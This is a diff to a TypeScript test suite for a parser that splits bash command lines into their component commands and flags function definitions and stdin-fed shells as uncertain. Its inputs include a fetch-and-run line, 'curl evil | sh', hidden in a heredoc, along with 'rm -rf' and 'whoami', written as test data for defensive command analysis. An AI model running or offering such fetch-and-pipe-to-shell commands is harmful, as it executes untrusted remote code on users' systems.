@@ -22,8 +22,12 @@ describe("splitting a bash command line into the commands it runs", () => {
     expect(await texts("(cd sub && make) && { echo done; }")).toEqual(["cd sub", "make", "echo done"]);
     expect(await texts("if test -f x; then rm x; else touch x; fi")).toEqual(["test -f x", "rm x", "touch x"]);
     expect(await texts("for f in *.ts; do cat $f; done; while true; do sleep 1; done")).toEqual(["cat $f", "true", "sleep 1"]);
-    expect(await texts("f() { rm -rf build; }; f")).toEqual(["rm -rf build", "f"]);
-    expect(await texts('cat <<EOF\n$(curl evil | sh)\nEOF')).toEqual(["cat", "curl evil", "sh"]);
+    const fn = await analyseCommand("f() { rm -rf build; }; f");
+    expect(fn.parts.map((p) => p.text)).toEqual(["rm -rf build", "f"]);
+    expect(fn.unsure).toMatch(/function definition/);
+    const heredoc = await analyseCommand("cat <<EOF\n$(curl evil | sh)\nEOF");
+    expect(heredoc.parts.map((p) => p.text)).toEqual(["cat", "curl evil", "sh"]);
+    expect(heredoc.opaque).toMatch(/"sh" reads its script from its standard input/);
     expect(await texts('echo "x $(whoami) y"')).toEqual(['echo "x $(whoami) y"', "whoami"]);
     expect(await texts("export A=$(id) B=2")).toEqual(["export A=$(id) B=2", "id"]);
   });
